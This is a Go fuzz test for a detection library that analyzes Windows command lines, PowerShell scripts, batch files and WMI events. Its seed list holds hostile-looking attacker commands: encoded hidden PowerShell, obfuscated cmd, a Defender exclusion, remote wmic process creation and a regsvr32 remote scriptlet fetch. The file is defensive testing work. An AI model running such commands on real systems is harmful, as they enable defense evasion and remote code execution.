package analyzers

import (
	"strings"
	"testing"
	"time"
)

// FuzzText feeds hostile text to everything that reads command lines,
// scripts and batch files: the content rules, the PowerShell and cmd
// judges, the decoders and the scores must not panic, and must not take
// more than linear-ish time on what an attacker wrote.
func FuzzText(f *testing.F) {
	for _, seed := range []string{
		`powershell -nop -w hidden -enc SQBFAFgA`,
		`powershell –EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQA`,
		`cmd.exe /c whoami & hostname && ipconfig /all | findstr IPv4 & net user`,
		`cmd /v:on /c "set a=po^wer^sh^ell&&call !a! %b:~1,2%"`,
		`cmd.exe /c echo TVqQAAMAAAAEAAAA >>%TEMP%\x.b64 & echo AAAA >> %TEMP%\x.b64`,
		`IEX ([System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA')))`,
		"<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/c x</Arguments></Exec></Actions></Task>",
		"I`E`X (\"{1}{0}\"-f 'ject','New-Ob'); &($env:ComSpec[4,15,25]-Join'') $x; [char]73+[char]69",
		"CommandInvocation(Set-MpPreference): \"Set-MpPreference\"\r\nParameterBinding(Set-MpPreference): name=\"ExclusionPath\"; value=\"C:\\x\"",
		`Perm. Consumer: instance of ActiveScriptEventConsumer { Name = "k"; ScriptingEngine = "VBScript"; ScriptText = "Dim o\n"; };`,
		`wmic /node:10.0.0.1 process call create "powershell -enc SQBFAFgA"`,
		`python -c "exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldA=='))"`,
		`cscript //e:jscript.encode C:\x.txt:y.js & regsvr32 /i:http://x/a.sct scrobj.dll`,
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		start := time.Now()
		e := &Event{ID: 1, Host: "h", Source: "evtx", EventID: 4688, Provider: "Microsoft-Windows-Security-Auditing",
			Process: `C:\Windows\System32\cmd.exe`, ParentProcess: `C:\Windows\explorer.exe`, CommandLine: text, data: "{}"}
		commandLineFindings(e)
		e.Process = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
		commandLineFindings(e)
		echoBuiltFiles([]Event{*e, *e, *e})
		dosfuscation(text)
		discoveryChain(text)
		obfuscationScore(text)
		scriptFindings(Script{Host: "h", BlockID: "b", Text: text, PartsExpected: 1, PartsOK: 1})
		batchFindings(&Event{ID: 2, Host: "h", Source: "batch", Process: `C:\Users\Public\x.bat`, data: `{"content":` + jsonQuote(text) + `}`})
		joinedBase64Text(strings.Fields(text))
		decodePayload(text)
		decodeUTF16Base64(text)
		shellTricks(e)
		pipelineAsCommands(text)
		carriedPowerShell(text)
		unpackedPayloads(text)
		signalScore(text, dosSignals)
		symbolRatio(text)
		wmicFindings(&Event{ID: 3, Host: "h", Process: `C:\Windows\System32\wbem\wmic.exe`, CommandLine: text, data: "{}"})
		for _, o := range []*otherInterpreter{python, unixShells, node, autoIt, lua, otherLanguages} {
			o.startFindings(&Event{ID: 4, Host: "h", Process: `C:\x\python.exe`, CommandLine: text, data: "{}"})
		}
		warnedBlockSeverity(text, text)
		consumerCommand.FindStringSubmatch(text)
		consumerName.FindStringSubmatch(text)
		xpCmdShellCall.FindStringSubmatch(text)
		if d := time.Since(start); d > 2*time.Second && len(text) < 1<<16 {
			t.Errorf("%d bytes took %s", len(text), d)
		}
	})
}

func jsonQuote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < ' ':
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&15])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}
